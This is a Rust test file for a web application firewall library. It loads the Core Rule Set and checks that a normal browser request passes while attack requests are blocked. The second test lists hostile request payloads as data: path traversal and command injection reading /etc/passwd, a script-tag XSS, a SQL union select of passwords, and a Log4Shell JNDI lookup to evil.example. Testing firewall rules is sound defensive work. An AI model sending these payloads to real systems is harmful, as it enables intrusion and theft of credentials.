//! The Core Rule Set, where there is a copy of it: in the folder that `FUSEBOX_CRS` names, or beside the project.

#![expect(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test may say that this cannot fail: its panic is the report"
)]

use std::path::PathBuf;
use std::time::{Instant, SystemTime};

use fusebox_seclang::{Ruleset, Transaction};

fn crs() -> Option<PathBuf> {
    let beside = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/crs");
    let folder = std::env::var_os("FUSEBOX_CRS").map_or(beside, PathBuf::from);
    if folder.join("rules").is_dir() {
        return Some(folder);
    }
    eprintln!("no rules in {}: nothing was checked", folder.display());
    None
}

fn rules(level: u8) -> Option<Ruleset> {
    let setup = format!(
        r#"
        SecRuleEngine On
        SecRequestBodyAccess On
        SecResponseBodyAccess On
        SecAction "id:900000,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level={level}"
        SecRule REQUEST_HEADERS:Content-Type "^application/json" "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
        "#
    );
    let start = Instant::now();
    let rules = Ruleset::builder()
        .text("setup", &setup)
        .crs(crs()?)
        .build()
        .unwrap_or_else(|error| panic!("{error}"));
    eprintln!(
        "level {level}: {} rules in {:?}",
        rules.rules(),
        start.elapsed()
    );
    Some(rules)
}

const BROWSER: &[(&str, &str)] = &[
    ("Host", "shop.example.com"),
    (
        "User-Agent",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    ),
    (
        "Accept",
        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    ),
    ("Accept-Language", "en-US,en;q=0.5"),
    ("Accept-Encoding", "gzip, deflate, br"),
    (
        "Cookie",
        "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark; lang=en; cart=42; seen=1",
    ),
    ("Connection", "keep-alive"),
];

fn get(rules: &Ruleset, uri: &str) -> Transaction {
    let mut tx = rules.transaction(SystemTime::UNIX_EPOCH);
    tx.connection(
        "203.0.113.7:40000".parse().unwrap(),
        "192.0.2.1:443".parse().unwrap(),
    );
    tx.request_line(b"GET", uri.as_bytes(), b"HTTP/1.1");
    for (name, value) in BROWSER {
        tx.request_header(name.as_bytes(), value.as_bytes());
    }
    tx.end_request_headers();
    tx.end_request_body();
    tx.response_line(200, b"HTTP/1.1");
    tx.end_response_headers();
    tx.end_response_body();
    tx.finish();
    tx
}

fn ids(tx: &Transaction) -> Vec<u32> {
    tx.matches().map(|found| found.rule_id()).collect()
}

#[test]
fn every_level_loads_and_lets_a_browser_through() {
    for level in [1, 2, 4] {
        let Some(rules) = rules(level) else { return };
        let tx = get(&rules, "/products?page=2&sort=price");
        if level < 4 {
            assert_eq!(ids(&tx), [0_u32; 0], "level {level}");
        }
        assert!(tx.interruption().is_none(), "level {level}: {:?}", ids(&tx));
    }
}

#[test]
fn attacks_of_each_class_are_refused() {
    let Some(rules) = rules(1) else { return };
    for (uri, id) in [
        ("/?file=../../../../etc/passwd", 930_100),
        ("/?cmd=;cat%20/etc/passwd", 932_160),
        ("/?q=%3Cscript%3Ealert(1)%3C/script%3E", 941_110),
        (
            "/?id=1%20union%20all%20select%20password%20from%20users",
            942_270,
        ),
        ("/?x=$%7Bjndi:ldap://evil.example/a%7D", 944_150),
    ] {
        let tx = get(&rules, uri);
        assert!(ids(&tx).contains(&id), "{uri}: {:?}", ids(&tx));
        let stopped = tx.interruption().expect(uri);
        assert_eq!(stopped.rule_id(), 949_110, "{uri}");
    }
}
